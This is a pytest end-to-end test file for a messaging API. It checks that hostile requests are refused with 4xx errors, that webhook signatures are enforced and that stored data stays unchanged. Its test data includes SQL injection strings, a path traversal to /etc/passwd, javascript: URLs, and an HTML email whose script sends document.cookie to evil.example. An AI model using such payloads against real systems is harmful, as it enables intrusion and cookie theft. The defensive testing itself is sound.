"""Hostile input over HTTP: every request gets a clear 4xx (never a 5xx) and the store is unchanged."""

import base64
import http.client
import json
import socket
import threading
import time
from urllib.parse import urlsplit

import pytest

from infra.sign_webhook import sign
from tests.conftest import sample_body
from tests.e2e.client import call
from tests.e2e.conftest import Runner, RunnerDb

pytestmark = pytest.mark.e2e

JSON = {"Content-Type": "application/json"}
SMS = sample_body("inbound_sms-sms")
EMAIL = sample_body("inbound_email-email")
SEND_SMS = sample_body("send_message-sms")
SEND_EMAIL = sample_body("send_message-email")
RECEIPT = sample_body("inbound_sms-status")
EMAIL_EVENTS = sample_body("inbound_email-events")


def changed(document, **changes):
    return json.dumps({**document, **changes}).encode()


def without(document, field):
    return json.dumps({key: value for key, value in document.items() if key != field}).encode()


CASES = [
    # (name, method, path, body, headers)
    ("truncated-json", "POST", "/api/webhooks/sms", b'{"from": "+1804', JSON),
    ("json-array", "POST", "/api/webhooks/sms", b"[1, 2, 3]", JSON),
    ("json-null", "POST", "/api/webhooks/sms", b"null", JSON),
    ("json-string", "POST", "/api/webhooks/email", b'"hello"', JSON),
    ("json-number", "POST", "/api/messages/sms", b"42", JSON),
    ("single-quotes", "POST", "/api/webhooks/sms", b"{'from': '+18045551234'}", JSON),
    ("trailing-comma", "POST", "/api/webhooks/sms", b'{"from": "+18045551234",}', JSON),
    ("empty-body", "POST", "/api/webhooks/sms", b"", JSON),
    ("whitespace-body", "POST", "/api/messages/email", b"   \n ", JSON),
    ("deep-nesting", "POST", "/api/webhooks/sms", b"[" * 50_000 + b"]" * 50_000, JSON),
    ("invalid-utf8", "POST", "/api/webhooks/sms", b'{"body": "\xff\xfe\xfd"}', JSON),
    ("nan-literal", "POST", "/api/webhooks/sms", b'{"from": NaN}', JSON),
    ("huge-integer-timestamp", "POST", "/api/webhooks/sms", changed(SMS, timestamp=10**400), JSON),
    ("huge-float-timestamp", "POST", "/api/webhooks/sms", changed(SMS, timestamp=1e308), JSON),
    ("nul-in-body", "POST", "/api/webhooks/sms", changed(SMS, body="a\u0000b"), JSON),
    ("nul-in-provider-id", "POST", "/api/webhooks/sms", changed(SMS, messaging_provider_id="id\u0000x"), JSON),
    ("nul-in-email-body", "POST", "/api/webhooks/email", changed(EMAIL, body="<p>\u0000</p>"), JSON),
    ("lone-surrogate", "POST", "/api/webhooks/sms", b'{"body": "\\ud800", "from": "+18045551234"}', JSON),
    ("lone-surrogate-body", "POST", "/api/messages/sms", changed(SEND_SMS, body="\ud800"), JSON),
    ("from-number", "POST", "/api/webhooks/sms", changed(SMS, **{"from": 18045551234}), JSON),
    ("to-list", "POST", "/api/webhooks/sms", changed(SMS, to=["+12016661234"]), JSON),
    ("type-null", "POST", "/api/webhooks/sms", changed(SMS, type=None), JSON),
    ("type-fax", "POST", "/api/webhooks/sms", changed(SMS, type="fax"), JSON),
    ("body-object", "POST", "/api/webhooks/sms", changed(SMS, body={"text": "hi"}), JSON),
    ("provider-id-int", "POST", "/api/webhooks/sms", changed(SMS, messaging_provider_id=5), JSON),
    ("attachments-object", "POST", "/api/webhooks/sms", changed(SMS, type="mms", attachments={"a": 1}), JSON),
    ("timestamp-bool", "POST", "/api/webhooks/sms", changed(SMS, timestamp=True), JSON),
    ("missing-from", "POST", "/api/webhooks/sms", without(SMS, "from"), JSON),
    ("missing-xillio-id", "POST", "/api/webhooks/email", without(EMAIL, "xillio_id"), JSON),
    ("sql-in-from", "POST", "/api/webhooks/sms", changed(SMS, **{"from": "' OR 1=1; --"}), JSON),
    ("sql-in-email", "POST", "/api/webhooks/email", changed(EMAIL, to="x'; DROP TABLE messages; --@a.com"), JSON),
    ("sql-in-provider-id", "POST", "/api/webhooks/sms", changed(SMS, messaging_provider_id="1; DROP TABLE x"), JSON),
    ("script-scheme", "POST", "/api/webhooks/sms", changed(SMS, type="mms", attachments=["javascript:alert(1)"]), JSON),
    ("data-scheme", "POST", "/api/webhooks/sms", changed(SMS, type="mms", attachments=["data:text/html,<b>"]), JSON),
    (
        "file-scheme",
        "POST",
        "/api/messages/sms",
        changed(SEND_SMS, type="mms", attachments=["file:///etc/passwd"]),
        JSON,
    ),
    ("ftp-scheme", "POST", "/api/webhooks/email", changed(EMAIL, attachments=["ftp://example.com/x"]), JSON),
    ("no-host-url", "POST", "/api/webhooks/email", changed(EMAIL, attachments=["http://"]), JSON),
    (
        "too-many-attachments",
        "POST",
        "/api/webhooks/email",
        changed(EMAIL, attachments=[f"https://example.com/{index}" for index in range(11)]),
        JSON,
    ),
    ("overlong-url", "POST", "/api/webhooks/email", changed(EMAIL, attachments=["https://e.com/" + "a" * 3000]), JSON),
    ("url-with-newline", "POST", "/api/webhooks/email", changed(EMAIL, attachments=["https://e.com/a\nb"]), JSON),
    ("sms-with-attachment", "POST", "/api/webhooks/sms", changed(SMS, attachments=["https://e.com/a.png"]), JSON),
    ("sms-body-too-long", "POST", "/api/messages/sms", changed(SEND_SMS, body="x" * 1601), JSON),
    ("email-body-too-long", "POST", "/api/messages/email", changed(SEND_EMAIL, body="x" * 200_001), JSON),
    ("empty-sms", "POST", "/api/webhooks/sms", changed(SMS, body="   "), JSON),
    ("phone-too-long", "POST", "/api/webhooks/sms", changed(SMS, to="+1" + "2" * 70), JSON),
    ("email-too-long", "POST", "/api/webhooks/email", changed(EMAIL, to="a" * 1000 + "@example.com"), JSON),
    ("same-participants", "POST", "/api/messages/sms", changed(SEND_SMS, to=SEND_SMS["from"]), JSON),
    ("same-email-participants", "POST", "/api/webhooks/email", changed(EMAIL, to="CONTACT@gmail.com"), JSON),
    ("future-timestamp", "POST", "/api/webhooks/sms", changed(SMS, timestamp="2999-01-01T00:00:00Z"), JSON),
    ("ancient-timestamp", "POST", "/api/webhooks/sms", changed(SMS, timestamp="1900-01-01T00:00:00Z"), JSON),
    ("unparseable-timestamp", "POST", "/api/webhooks/sms", changed(SMS, timestamp="next tuesday"), JSON),
    ("bad-offset", "POST", "/api/webhooks/sms", changed(SMS, timestamp="2024-11-01T14:00:00+25:00"), JSON),
    ("unknown-send-field", "POST", "/api/messages/sms", changed(SEND_SMS, priority="urgent"), JSON),
    ("text-plain", "POST", "/api/webhooks/sms", json.dumps(SMS).encode(), {"Content-Type": "text/plain"}),
    (
        "form-encoded",
        "POST",
        "/api/messages/sms",
        b"from=1&to=2",
        {"Content-Type": "application/x-www-form-urlencoded"},
    ),
    ("no-content-type", "POST", "/api/webhooks/email", json.dumps(EMAIL).encode(), {}),
    (
        "multipart",
        "POST",
        "/api/webhooks/sms",
        b"--x\r\n\r\n--x--",
        {"Content-Type": "multipart/form-data; boundary=x"},
    ),
    ("oversized", "POST", "/api/webhooks/email", changed(EMAIL, body="x" * 400_000), JSON),
    (
        "idempotency-key-too-long",
        "POST",
        "/api/messages/sms",
        json.dumps(SEND_SMS).encode(),
        {**JSON, "Idempotency-Key": "k" * 300},
    ),
    (
        "idempotency-key-control",
        "POST",
        "/api/messages/sms",
        json.dumps(SEND_SMS).encode(),
        {**JSON, "Idempotency-Key": "a b"},
    ),
    ("negative-id", "GET", "/api/conversations/-1", None, {}),
    ("zero-id", "GET", "/api/messages/0", None, {}),
    ("huge-id", "GET", "/api/messages/99999999999999999999999", None, {}),
    ("fractional-id", "GET", "/api/conversations/1.5/messages", None, {}),
    ("text-id", "GET", "/api/conversations/abc", None, {}),
    ("traversal-id", "GET", "/api/messages/..%2F..%2Fetc%2Fpasswd", None, {}),
    ("sql-id", "GET", "/api/messages/1%20OR%201=1", None, {}),
    ("bad-cursor", "GET", "/api/conversations?cursor=not-a-cursor", None, {}),
    ("forged-cursor", "GET", "/api/conversations/1/messages?cursor=WyJ4IiwgIjEiXQ", None, {}),
    ("limit-zero", "GET", "/api/conversations?limit=0", None, {}),
    ("limit-too-big", "GET", "/api/conversations?limit=201", None, {}),
    ("limit-text", "GET", "/api/conversations/1/messages?limit=ten", None, {}),
    ("unknown-route", "GET", "/api/admin", None, {}),
    ("wrong-method", "PUT", "/api/webhooks/sms", json.dumps(SMS).encode(), JSON),
    ("get-on-send", "GET", "/api/messages/sms", None, {}),
    ("trailing-nul", "POST", "/api/webhooks/sms", json.dumps(SMS).encode() + b"\x00", JSON),
    ("duplicate-key-wrong-type", "POST", "/api/webhooks/sms", json.dumps(SMS)[:-1].encode() + b', "to": 5}', JSON),
    ("utf16-body", "POST", "/api/webhooks/sms", json.dumps(SMS).encode("utf-16"), JSON),
    ("infinity-literal", "POST", "/api/messages/sms", changed(SEND_SMS)[:-1] + b', "timestamp": Infinity}', JSON),
    ("exponent-id", "GET", "/api/messages/1e3", None, {}),
    ("nul-in-cursor", "GET", "/api/conversations?cursor=%00", None, {}),
    ("negative-limit", "GET", "/api/conversations?limit=-1", None, {}),
    ("sql-in-cursor", "GET", "/api/conversations?cursor=1%27%3B%20DROP%20TABLE%20messages%3B--", None, {}),
    ("delete-message", "DELETE", "/api/messages/1", None, {}),
    ("encoded-slash-route", "POST", "/api/webhooks%2Fsms", json.dumps(SMS).encode(), JSON),
]


@pytest.mark.parametrize(("name", "method", "path", "body", "headers"), CASES, ids=[case[0] for case in CASES])
def test_hostile_request_gets_a_4xx_and_changes_nothing(runner_url, runner_db, name, method, path, body, headers):
    before = runner_db.counts()
    response = call(runner_url, method, path, body, headers)
    assert 400 <= response.status < 500, f"{name}: {response.status} {response.text[:300]}"
    error = response.json()["error"]
    assert error["code"] and error["message"]
    assert runner_db.counts() == before


def test_there_are_at_least_fifty_hostile_cases():
    assert len(CASES) >= 50


def test_sql_looking_text_is_stored_verbatim_and_harms_nothing(runner_url, runner_db):
    text = "Robert'); DROP TABLE messages; -- <script>alert(1)</script>"
    response = call(runner_url, "POST", "/api/webhooks/sms", {**SMS, "body": text})
    assert response.status == 200
    stored = call(runner_url, "GET", f"/api/messages/{response.json()['id']}").json()
    assert stored["body"] == text
    assert runner_db.counts()["messages"] == 1


@pytest.fixture
def tripwire():
    """A listening socket that records every connection made to it."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.1)
    connections: list[object] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                connection, peer = listener.accept()
            except TimeoutError:
                continue
            connections.append(peer)
            connection.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield listener.getsockname()[1], connections
    stop.set()
    thread.join()
    listener.close()


def test_attachment_urls_are_never_fetched(runner_url, runner_db, tripwire):
    """Webhooks and a send whose attachments point at a listening socket: it never sees a connection."""
    port, connections = tripwire
    urls = [f"http://127.0.0.1:{port}/image.png", f"https://127.0.0.1:{port}/document.pdf"]
    assert call(runner_url, "POST", "/api/webhooks/email", {**EMAIL, "attachments": urls}).status == 200
    assert call(runner_url, "POST", "/api/webhooks/sms", {**SMS, "type": "mms", "attachments": urls}).status == 200
    sent = call(runner_url, "POST", "/api/messages/sms", {**SEND_SMS, "type": "mms", "attachments": urls})
    assert (sent.status, sent.json()["status"]) == (202, "sent")
    # Nothing is left for anything asynchronous to do: the retry consumer and the sweep only ever take
    # queued or retrying messages, and every request above has been answered and committed.
    assert runner_db.scalar("SELECT count(*) FROM messages WHERE status IN ('queued', 'retrying')") == 0
    assert connections == []
    stored = {
        json.dumps(row)
        for row in (call(runner_url, "GET", f"/api/messages/{i}").json()["attachments"] for i in (1, 2, 3))
    }
    assert stored == {json.dumps(urls)}


def test_html_email_is_returned_byte_for_byte_and_never_as_html(runner_url, runner_db):
    html = (
        "<html><head><script>fetch('https://evil.example/?c='+document.cookie)</script></head>\r\n"
        '<body onload="alert(1)"><img src="https://tracker.example/p.gif">'
        "&lt;&amp;&gt; \u00e9\u4e2d\U0001f600</body></html>"
    )
    response = call(runner_url, "POST", "/api/webhooks/email", {**EMAIL, "body": html})
    assert response.status == 200
    fetched = call(runner_url, "GET", f"/api/messages/{response.json()['id']}")
    assert fetched.headers["content-type"].startswith("application/json")
    assert fetched.json()["body"] == html
    listed = call(runner_url, "GET", f"/api/conversations/{response.json()['conversation_id']}/messages")
    assert listed.json()["items"][0]["body"] == html


@pytest.fixture(scope="module")
def signed_runner():
    runner = Runner("signed", {"SMS_WEBHOOK_SECRETS": "sms-secret,old-sms-secret", "EMAIL_WEBHOOK_SECRETS": "e-secret"})
    yield runner
    runner.stop()


def _signed_call(runner, path, document, secret, timestamp=None, tamper=False):
    body = json.dumps(document).encode()
    headers = {**JSON, **sign(body, secret, timestamp)}
    if tamper:
        body = body.replace(b"text message", b"text massage")
    return call(runner.url, "POST", path, body, headers)


@pytest.mark.parametrize(
    ("path", "document", "secret", "timestamp", "tamper"),
    [
        ("/api/webhooks/sms", SMS, "wrong-secret", None, False),
        ("/api/webhooks/sms", SMS, "sms-secret", 1_000_000_000, False),
        ("/api/webhooks/sms", SMS, "sms-secret", int(time.time()) + 3600, False),
        ("/api/webhooks/sms", SMS, "sms-secret", None, True),
        ("/api/webhooks/email", EMAIL, "sms-secret", None, False),
    ],
    ids=["wrong-secret", "expired", "future", "tampered", "other-providers-secret"],
)
def test_forged_and_replayed_webhooks_are_401(signed_runner, path, document, secret, timestamp, tamper):
    database = RunnerDb(signed_runner.database_url)
    before = database.counts()
    response = _signed_call(signed_runner, path, document, secret, timestamp, tamper)
    assert response.status == 401
    assert response.json()["error"]["code"] == "invalid_signature"
    assert database.counts() == before
    database.engine.dispose()


@pytest.mark.parametrize(
    "headers",
    [
        {"X-Signature-Timestamp": "\u00b2", "X-Signature": "v1=" + "0" * 64},
        {"X-Signature-Timestamp": "1" * 40, "X-Signature": "v1=" + "0" * 64},
        {"X-Signature-Timestamp": "", "X-Signature": ""},
        {"X-Signature": "v1=" + "0" * 64},
        {"X-Signature-Timestamp": str(int(time.time())), "X-Signature": ",".join(["v1=zz"] * 500)},
    ],
    ids=["superscript-timestamp", "huge-timestamp", "empty-headers", "no-timestamp", "many-garbage-signatures"],
)
def test_malformed_signature_headers_are_401(signed_runner, headers):
    response = call(signed_runner.url, "POST", "/api/webhooks/sms", json.dumps(SMS).encode(), {**JSON, **headers})
    assert response.status == 401
    assert response.json()["error"]["code"] == "invalid_signature"


def test_the_signature_is_checked_before_the_body_is_parsed(signed_runner):
    unsigned_garbage = call(signed_runner.url, "POST", "/api/webhooks/sms", b'{"broken', JSON)
    assert unsigned_garbage.status == 401
    body = b'{"broken'
    signed_garbage = call(signed_runner.url, "POST", "/api/webhooks/sms", body, {**JSON, **sign(body, "sms-secret")})
    assert signed_garbage.status == 400


def test_unsigned_webhook_is_401_and_signed_ones_pass(signed_runner):
    assert call(signed_runner.url, "POST", "/api/webhooks/sms", SMS).status == 401
    assert _signed_call(signed_runner, "/api/webhooks/sms", SMS, "sms-secret").status == 200
    assert _signed_call(signed_runner, "/api/webhooks/sms", SMS, "old-sms-secret").status == 200


def _cursor(position):
    return base64.urlsafe_b64encode(json.dumps(position).encode()).decode().rstrip("=")


@pytest.mark.parametrize(
    "position",
    [["0001-01-01T00:00:00+14:00", 1], ["9999-12-31T23:59:59-14:00", 1], ["2024-11-01T14:00:00+00:00", 2**63]],
    ids=["year-1-east", "year-9999-west", "id-past-bigint"],
)
def test_a_doctored_cursor_is_422_and_later_reads_return_their_own_rows(runner_url, runner_db, position):
    first = call(runner_url, "POST", "/api/webhooks/sms", SMS).json()
    other = call(runner_url, "POST", "/api/webhooks/email", EMAIL).json()
    for path in ("/api/conversations", f"/api/conversations/{first['conversation_id']}/messages"):
        response = call(runner_url, "GET", f"{path}?cursor={_cursor(position)}")
        assert response.status == 422, response.text
        assert response.json()["error"]["field"] == "cursor"
    for _ in range(5):
        for created in (first, other):
            listed = call(runner_url, "GET", f"/api/conversations/{created['conversation_id']}/messages").json()
            assert [item["id"] for item in listed["items"]] == [created["id"]]


@pytest.mark.parametrize("timestamp", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"])
@pytest.mark.parametrize(
    ("path", "document", "field"),
    [
        ("/api/messages/sms", SEND_SMS, "timestamp"),
        ("/api/messages/email", SEND_EMAIL, "timestamp"),
        ("/api/webhooks/sms", SMS, "timestamp"),
        ("/api/webhooks/email", EMAIL, "timestamp"),
        ("/api/webhooks/sms/status", RECEIPT, "timestamp"),
        # A batch: the first event is valid (alone it would be held for its unknown provider id), the
        # second is out of range; the whole batch is refused and nothing of it is kept.
        ("/api/webhooks/email/events", EMAIL_EVENTS, "1.timestamp"),
    ],
)
def test_an_instant_outside_utc_is_422_naming_timestamp(runner_url, runner_db, path, document, field, timestamp):
    before = runner_db.counts()
    if isinstance(document, list):
        body = [document[0], {**document[1], "timestamp": timestamp}]
    else:
        body = {**document, "timestamp": timestamp}
    response = call(runner_url, "POST", path, body)
    assert response.status == 422, response.text
    assert response.json()["error"]["field"] == field
    assert runner_db.counts() == before


# Hardening II, items 6-10: inputs that were silently converted, ignored or accepted unsigned.
UNASSIGNED = "+15551234567"  # possible, but not in a range the numbering plan assigns
HARDENING_II_CASES = [
    # (name, method, path, body, headers, field the error must name)
    ("phone-letters", "POST", "/api/webhooks/sms", changed(SMS, **{"from": "+1201666ABCD"}), JSON, "from"),
    ("phone-ext-dot", "POST", "/api/messages/sms", changed(SEND_SMS, to="+1 201 666 1234 ext. 55"), JSON, "to"),
    ("phone-ext-rfc3966", "POST", "/api/webhooks/sms", changed(SMS, to="+12016661234;ext=7"), JSON, "to"),
    ("phone-ext-pauses", "POST", "/api/webhooks/sms", changed(SMS, to="+12016661234,,55"), JSON, "to"),
    ("phone-double-plus", "POST", "/api/webhooks/sms", changed(SMS, to="++12016661234"), JSON, "to"),
    ("phone-bidi-override", "POST", "/api/webhooks/sms", changed(SMS, to="+1201\u202e6661234"), JSON, "to"),
    ("phone-zero-width", "POST", "/api/messages/sms", changed(SEND_SMS, to="+1201\u200b6661234"), JSON, "to"),
    ("phone-word-joiner", "POST", "/api/webhooks/sms", changed(SMS, to="+1201\u20606661234"), JSON, "to"),
    ("send-to-unassigned", "POST", "/api/messages/sms", changed(SEND_SMS, to=UNASSIGNED), JSON, "to"),
    ("email-link-differs", "POST", "/api/webhooks/email", changed(EMAIL, to="[a@b.com](mailto:c@d.com)"), JSON, "to"),
    ("email-local-65", "POST", "/api/messages/email", changed(SEND_EMAIL, to="a" * 65 + "@example.com"), JSON, "to"),
    ("email-zero-width", "POST", "/api/webhooks/email", changed(EMAIL, to="a\u200d@example.com"), JSON, "to"),
    ("email-fullwidth", "POST", "/api/webhooks/email", changed(EMAIL, to="a@\uff45xample.com"), JSON, "to"),
    ("email-ideographic-dot", "POST", "/api/messages/email", changed(SEND_EMAIL, to="a@example\u3002com"), JSON, "to"),
    (
        "receipt-blank-error-code",
        "POST",
        "/api/webhooks/sms/status",
        changed(RECEIPT, status="undelivered", error_code=" "),
        JSON,
        "error_code",
    ),
    ("naive-timestamp", "POST", "/api/webhooks/sms", changed(SMS, timestamp="2024-11-01T14:00:00"), JSON, "timestamp"),
    ("date-timestamp", "POST", "/api/webhooks/email", changed(EMAIL, timestamp="2024-11-01"), JSON, "timestamp"),
    ("epoch-timestamp", "POST", "/api/webhooks/sms", changed(SMS, timestamp=1730469600), JSON, "timestamp"),
    ("epoch-string", "POST", "/api/messages/sms", changed(SEND_SMS, timestamp="1730469600"), JSON, "timestamp"),
    ("email-type-sms", "POST", "/api/messages/email", changed(SEND_EMAIL, type="sms"), JSON, "type"),
    ("empty-sms-send", "POST", "/api/messages/sms", changed(SEND_SMS, body=" "), JSON, "body"),
    ("same-from-to", "POST", "/api/webhooks/sms", changed(SMS, to=SMS["from"]), JSON, "to"),
    (
        "json-patch-type",
        "POST",
        "/api/messages/sms",
        json.dumps(SEND_SMS).encode(),
        {"Content-Type": "application/json-patch+json"},
        "Content-Type",
    ),
    (
        "latin1-charset",
        "POST",
        "/api/webhooks/sms",
        json.dumps(SMS).encode(),
        {"Content-Type": "application/json; charset=iso-8859-1"},
        "Content-Type",
    ),
    ("query-participant", "GET", "/api/conversations?participant=%2B1201666ABCD", None, {}, "participant"),
    ("query-direction", "GET", "/api/conversations/1/messages?direction=inbound", None, {}, "direction"),
    ("query-page", "GET", "/api/conversations?page=2", None, {}, "page"),
    ("query-on-message", "GET", "/api/messages/1?expand=all", None, {}, "expand"),
    ("query-on-health", "GET", "/health?verbose=1", None, {}, "verbose"),
    ("query-on-webhook", "POST", "/api/webhooks/sms?debug=1", json.dumps(SMS).encode(), JSON, "debug"),
    ("query-on-send", "POST", "/api/messages/sms?dry_run=1", json.dumps(SEND_SMS).encode(), JSON, "dry_run"),
    # A header is named as the API documents it, whatever case the client or the gateway wrote it in.
    (
        "idempotency-key-named",
        "POST",
        "/api/messages/sms",
        json.dumps(SEND_SMS).encode(),
        {**JSON, "idempotency-key": "a b"},
        "Idempotency-Key",
    ),
    ("oversized-named", "POST", "/api/webhooks/email", changed(EMAIL, body="x" * 400_000), JSON, "body"),
]


@pytest.mark.parametrize(
    ("name", "method", "path", "body", "headers", "field"),
    HARDENING_II_CASES,
    ids=[case[0] for case in HARDENING_II_CASES],
)
def test_hardening_ii_input_is_refused_naming_the_field(
    runner_url, runner_db, name, method, path, body, headers, field
):
    before = runner_db.counts()
    response = call(runner_url, method, path, body, headers)
    assert 400 <= response.status < 500, f"{name}: {response.status} {response.text[:300]}"
    error = response.json()["error"]
    assert set(error) == {"code", "message", "field"}
    assert error["field"] == field, error
    assert runner_db.counts() == before


# Pairs in code-point order that a linguistic collation reverses: ICU en-US puts '_' before '-'; glibc's
# en_US.UTF-8 compares letters first ("ab" before "ac").
COLLATION_PAIRS = [("a-b@x.com", "a_b@x.com"), ("a-c@x.com", "ab@x.com")]


def test_emails_between_addresses_a_locale_orders_otherwise_meet_in_their_own_conversations(runner_url, runner_db):
    """The second run of `make test` creates the runner's database with en-US's default collation: there,
    before the participant columns were COLLATE "C", an email between such a pair was a 500 and was lost.
    Each email is stored, both directions of a pair meet in one conversation, and neither address of the
    pair is taken for the other."""
    sent = iter(range(100))

    def receive(sender: str, recipient: str) -> int:
        document = {**EMAIL, "from": sender, "to": recipient, "xillio_id": f"collation-{next(sent)}"}
        response = call(runner_url, "POST", "/api/webhooks/email", document)
        assert response.status == 200, response.text
        return response.json()["conversation_id"]

    expected = {}
    for first, second in COLLATION_PAIRS:
        conversation_id = receive(second, first)
        assert receive(first, second) == conversation_id
        expected[conversation_id] = ([first, second], 2)
    hyphen, underscore = COLLATION_PAIRS[0]
    expected[receive(hyphen, "support@x.com")] = ([hyphen, "support@x.com"], 1)
    expected[receive(underscore, "support@x.com")] = ([underscore, "support@x.com"], 1)
    assert len(expected) == 4  # four distinct conversations
    for conversation_id, (participants, count) in expected.items():
        conversation = call(runner_url, "GET", f"/api/conversations/{conversation_id}").json()
        assert (conversation["participants"], conversation["message_count"]) == (participants, count)
    assert runner_db.scalar("SELECT count(*) FROM conversations") == 4


@pytest.mark.parametrize("content_type", ["APPLICATION/JSON", "application/json; charset=UTF-8"])
def test_application_json_in_any_case_is_accepted_over_http(runner_url, runner_db, content_type):
    response = call(runner_url, "POST", "/api/webhooks/sms", json.dumps(SMS).encode(), {"Content-Type": content_type})
    assert response.status == 200, response.text


def test_a_webhook_from_a_possible_but_unassigned_number_is_stored(runner_url, runner_db):
    response = call(runner_url, "POST", "/api/webhooks/sms", {**SMS, "from": UNASSIGNED, "to": "+19876543210"})
    assert response.status == 200, response.text
    assert call(runner_url, "GET", f"/api/messages/{response.json()['id']}").json()["from"] == UNASSIGNED


def test_an_email_send_may_carry_type_email(runner_url, runner_db):
    assert call(runner_url, "POST", "/api/messages/email", {**SEND_EMAIL, "type": "email"}).status == 202


def _call_with_repeated_header(base_url, path, body, headers, name, values):
    """http.client sends each putheader call as its own header line: a header given twice."""
    parts = urlsplit(base_url)
    connection = http.client.HTTPConnection(parts.hostname or "127.0.0.1", parts.port, timeout=30)
    try:
        connection.putrequest("POST", path)
        for header, value in {**headers, "Content-Length": str(len(body))}.items():
            connection.putheader(header, value)
        for value in values:
            connection.putheader(name, value)
        connection.endheaders(body)
        response = connection.getresponse()
        return response.status, json.loads(response.read() or b"null")
    finally:
        connection.close()


@pytest.mark.parametrize("order", ["valid-then-junk", "junk-then-valid", "junk-then-wrong"])
def test_two_signature_headers_are_refused_as_ambiguous(signed_runner, order):
    database = RunnerDb(signed_runner.database_url)
    before = database.counts()
    body = json.dumps(SMS).encode()
    signed = sign(body, "sms-secret")
    valid, junk = signed["X-Signature"], "junk"
    values = {
        "valid-then-junk": [valid, junk],
        "junk-then-valid": [junk, valid],
        "junk-then-wrong": [junk, "v1=" + "0" * 64],
    }[order]
    headers = {**JSON, "X-Signature-Timestamp": signed["X-Signature-Timestamp"]}
    status, document = _call_with_repeated_header(
        signed_runner.url, "/api/webhooks/sms", body, headers, "X-Signature", values
    )
    assert status == 401, document
    assert document["error"]["field"] == "X-Signature"
    assert database.counts() == before
    database.engine.dispose()


def test_a_secret_list_that_names_no_secret_fails_closed():
    runner = Runner("emptysecrets", {"SMS_WEBHOOK_SECRETS": " , "})
    try:
        database = RunnerDb(runner.database_url)
        response = call(runner.url, "POST", "/api/webhooks/sms", SMS)
        assert response.status == 503, response.text
        assert response.json()["error"]["code"] == "service_unavailable"
        assert database.counts()["messages"] == 0
        database.engine.dispose()
    finally:
        runner.stop()


def test_required_signatures_without_a_secret_refuse_webhooks_over_http():
    """As a deploy with the template's defaults: WEBHOOK_SIGNATURES=required and no secret. Every webhook
    route answers 503 naming the problem (the provider retries) and stores nothing."""
    runner = Runner("required", {"WEBHOOK_SIGNATURES": "required"})
    try:
        database = RunnerDb(runner.database_url)
        before = database.counts()
        for path, document in (
            ("/api/webhooks/sms", SMS),
            ("/api/webhooks/email", EMAIL),
            ("/api/webhooks/sms/status", RECEIPT),
            ("/api/webhooks/email/events", EMAIL_EVENTS),
        ):
            response = call(runner.url, "POST", path, document)
            assert response.status == 503, response.text
            error = response.json()["error"]
            assert error["code"] == "service_unavailable" and "signing secret is configured" in error["message"], error
        assert database.counts() == before
        database.engine.dispose()
    finally:
        runner.stop()


def test_the_runner_accepts_unsigned_webhooks_only_because_it_says_it_does(runner_url, runner_db, runner):
    """`make run` sets WEBHOOK_SIGNATURES=optional (a provider with no secret may post unsigned) and logs it."""
    assert call(runner_url, "POST", "/api/webhooks/sms", SMS).status == 200
    assert "WEBHOOK_SIGNATURES=optional" in runner.log.read_text()
